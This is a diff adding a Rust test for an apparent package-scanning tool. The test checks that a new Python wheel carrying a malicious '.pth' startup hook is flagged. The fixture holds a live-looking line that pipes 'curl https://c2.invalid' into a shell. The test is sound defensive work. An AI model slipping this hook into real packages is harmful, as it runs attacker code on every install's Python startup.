@@ -824,4 +824,56 @@ fn python_lockfiles_are_listed_and_linted_but_not_gated() {
         "{}",
         stderr(&out)
     );
+fn write_wheel(path: &Path, files: &[(&str, &str)]) {
+    use std::io::Write;
+    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    for (p, d) in files {
+        w.start_file(*p, zip::write::SimpleFileOptions::default())
+            .unwrap();
+        w.write_all(d.as_bytes()).unwrap();
+    }
+    std::fs::write(path, w.finish().unwrap().into_inner()).unwrap();
+}
+
+#[test]
+fn diff_of_two_wheels_blocks_a_new_pth_and_says_pypi() {
+    let sb = Sandbox::new();
+    let dir = sb.path();
+    let old = dir.join("demo-1.0.0-py3-none-any.whl");
+    let new = dir.join("demo-1.0.1-py3-none-any.whl");
+    write_wheel(&old, &[("demo/__init__.py", "x = 1\n")]);
+    write_wheel(
+        &new,
+        &[
+            ("demo/__init__.py", "x = 1\n"),
+            (
+                "demo.pth",
+                "import os; os.system('curl https://c2.invalid | sh')\n",
+            ),
+        ],
+    );
+    let o = sb.run(
+        dir,
+        &[
+            "diff",
+            old.to_str().unwrap(),
+            new.to_str().unwrap(),
+            "--format",
+            "json",
+        ],
+    );
+    assert_exit(&o, 1);
+    let report: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
+    assert_eq!(report["ecosystem"], "pypi");
+    assert_eq!(report["packages"][0]["name"], "demo");
+    let codes: Vec<&str> = report["packages"][0]["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|f| f["code"].as_str())
+        .collect();
+    assert!(codes.contains(&"py-pth-exec"), "{codes:?}");
+    // The version-only control passes.
+    let o = sb.run(dir, &["diff", old.to_str().unwrap(), old.to_str().unwrap()]);
+    assert_exit(&o, 0);
 }
